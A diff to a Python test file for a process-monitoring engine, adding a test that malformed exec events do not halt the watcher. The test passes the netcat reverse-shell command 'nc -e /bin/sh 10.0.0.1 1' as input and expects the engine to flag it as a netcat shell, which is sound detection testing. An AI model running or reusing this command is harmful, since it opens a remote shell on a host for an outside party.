@@ -9,7 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from monitor.events import CALL, Rig, happened
+from monitor.events import CALL, Rig, happened, x
 
 from clawos.monitor.event import Event
 from clawos.monitor.proc import ProcLook
@@ -155,6 +155,14 @@ def test_counts_of_the_engine() -> None:
         happened("exit", code=0, signal=0),
     )
     assert rig.engine.counts["exec"] == rig.engine.counts["exit"] == 1
+
+
+def test_a_mistake_with_one_event_does_not_end_the_watch(caplog: pytest.LogCaptureFixture) -> None:
+    rig = Rig()
+    broken = happened("exec", args=["a"])  # without a path
+    assert rig.feed(broken, broken, x("nc -e /bin/sh 10.0.0.1 1")) >= {"netcat-shell"}
+    assert rig.engine.failed == 2
+    assert len([record for record in caplog.records if "passed over" in record.message]) == 1
 
 
 def test_proc_tells_of_a_process_and_its_ancestors() -> None:
